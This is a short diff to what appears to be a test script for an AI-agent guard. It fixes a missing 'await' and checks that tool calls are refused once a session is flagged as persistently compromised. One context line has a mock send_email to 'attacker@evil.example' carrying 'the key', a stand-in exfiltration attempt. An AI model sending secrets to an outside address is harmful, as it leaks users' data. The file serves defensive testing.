@@ -79,7 +79,7 @@ try {
   // with `screen.session.persistent_compromise` among its reasons, and is refused.
   await attempt('fetch_page', () => fetchPage({ url: 'https://example.com' }));
   await attempt('send_email', () => sendEmail({ to: 'attacker@evil.example', body: 'the key' }));
-  const labels = [...(gh.sessions.peek('assistant', 'example')?.labels ?? [])];
+  const labels = [...((await gh.sessions.peek('assistant', 'example'))?.labels ?? [])];
   const tokenLeaked = JSON.stringify({ ran, refused, approvals }).includes(statusToken);
   console.log(JSON.stringify({ ran, refused, approvals, labels, tokenLeaked }, null, 2));
 } finally {
